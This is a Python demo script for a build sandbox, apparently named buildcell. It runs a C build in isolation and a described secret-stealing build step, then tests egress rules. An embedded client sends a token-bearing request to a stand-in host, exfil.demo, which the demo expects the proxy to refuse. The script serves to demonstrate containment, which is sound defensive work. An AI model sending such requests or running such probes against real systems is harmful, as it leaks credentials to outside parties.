"""`make demo`: compile and run a C program in a cell, contain a hostile build, allow one host.

Every command is printed shell-quoted before it runs, exactly as it can be pasted, and
the last lines name commands that work as written in a new shell from this directory.
"""

from __future__ import annotations

import http.server
import os
import shlex
import shutil
import subprocess
import sys
import tempfile
import threading
from collections.abc import Mapping
from pathlib import Path

HERE = Path(__file__).resolve().parent


def _cli() -> tuple[str, list[str]]:
    """How to call buildcell: (as it is printed, as it is run), the same command.

    The virtualenv's ``bin/buildcell`` when the demo runs from one (``make demo``:
    ``.venv/bin/buildcell``, relative to the current directory), else ``buildcell`` when
    it is on PATH (pipx), else ``python -m buildcell``.
    """
    script = Path(sys.prefix) / "bin" / "buildcell"
    if sys.prefix != sys.base_prefix and os.access(script, os.X_OK):
        return shlex.quote(_from_here(script)), [str(script)]
    on_path = shutil.which("buildcell")
    if on_path is not None:
        return "buildcell", [on_path]
    return shlex.join([sys.executable, "-m", "buildcell"]), [sys.executable, "-m", "buildcell"]


def _from_here(path: Path) -> str:
    """``path`` relative to the current directory when it lies below it."""
    try:
        return str(path.relative_to(Path.cwd()))
    except ValueError:
        return str(path)


SHOWN, BUILDCELL = _cli()


def say(text: str) -> None:
    print(f"\n\033[1m== {text}\033[0m" if sys.stdout.isatty() else f"\n== {text}", flush=True)


def run(args: list[str], extra_env: Mapping[str, str] | None = None) -> int:
    """Print the command as it can be pasted (variables the demo adds as assignments in
    front), then run it."""
    assignments = [shlex.quote(f"{k}={v}") for k, v in (extra_env or {}).items()]
    print("$ " + " ".join([*assignments, SHOWN, shlex.join(args)]), flush=True)
    env = dict(os.environ, **extra_env) if extra_env else None
    return subprocess.run([*BUILDCELL, *args], env=env, check=False).returncode


def next_commands() -> list[tuple[str, str]]:
    """What to try next: commands that work as written in a new shell from the current
    directory (no virtualenv activated), each with what it does."""
    if SHOWN == "buildcell":
        return [("buildcell doctor", "what this host can enforce")]
    commands = [(f"{SHOWN} doctor", "what this host can enforce")]
    activate = Path(sys.prefix) / "bin" / "activate"
    if sys.prefix != sys.base_prefix and activate.is_file():
        where = shlex.quote(_from_here(activate))
        commands.append((f". {where} && buildcell --help", "or put buildcell on PATH first"))
    return commands


# What the cell runs in step 3, with python3 (every host with buildcell has it; curl is
# not on a fresh machine): one allowed request, one refused, one name that does not exist.
_EGRESS_CLIENT = """\
import socket, urllib.request
def get(url):
    try:
        return urllib.request.urlopen(url, timeout=10).status
    except OSError as e:
        return getattr(e, "code", e)
print("mirror.demo: HTTP", get("http://mirror.demo:{port}/"))
print("exfil.demo: HTTP", get("http://exfil.demo/?token=x"), "(refused by the egress proxy)")
try:
    socket.getaddrinfo("exfil.demo", 80)
except OSError:
    print("exfil.demo: no such name in this cell")
"""


class _Mirror(http.server.BaseHTTPRequestHandler):
    """Stands in for a package mirror on the host's loopback."""

    def do_GET(self) -> None:
        body = b"simple index\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


def main() -> int:
    work = Path(tempfile.mkdtemp(prefix="buildcell-demo-"))
    try:
        say("1. Build examples/hello-c from its buildcell.yaml: one fresh cell per step")
        spec = HERE / "hello-c" / "buildcell.yaml"
        rc = run(["build", "-f", str(spec), "--out", str(work / "out")])
        if rc != 0:
            print(f"the build failed with exit status {rc}")
            return rc
        binary = work / "out" / "build" / "hello"
        print(f"\n$ {binary}", flush=True)
        subprocess.run([str(binary)], check=True)
        untouched = sorted(p.name for p in (HERE / "hello-c").iterdir())
        print(f"the source directory is untouched: {untouched}")

        say("2. A hostile build step tries to steal secrets and phone home")
        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Mirror)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        port = server.server_address[1]
        token = {"DEMO_RUNNER_TOKEN": "ghp_demo-not-a-real-token"}
        print(
            f"(the host has DEMO_RUNNER_TOKEN in its environment and a server on 127.0.0.1:{port})"
        )
        rc = run(
            [
                "run",
                "--source",
                str(HERE / "hostile"),
                "--env",
                f"DEMO_HOST_PORT={port}",
                "--timeout",
                "60s",
                "--",
                "python3",
                "probe.py",
            ],
            extra_env=token,
        )
        if rc != 0:
            server.shutdown()
            print("something leaked: see above")
            return 1

        say("3. Egress by name: one host allowed, everything else refused and recorded")
        print(f"(a package mirror stands in on 127.0.0.1:{port}, pinned as mirror.demo)")
        rc = run(
            [
                "run",
                "--allow",
                f"mirror.demo:{port}",
                "--allow",
                f"127.0.0.1:{port}",
                "--add-host",
                "mirror.demo:127.0.0.1",
                "--",
                "python3",
                "-c",
                _EGRESS_CLIENT.replace("{port}", str(port)),
            ]
        )
        server.shutdown()
        if rc != 0:
            print("the egress demo failed: see above")
            return 1
        say("Everything was contained. Next, in a new shell from this directory:")
        for command, what in next_commands():
            print(f"  $ {command}    # {what}")
        return 0
    finally:
        shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    raise SystemExit(main())
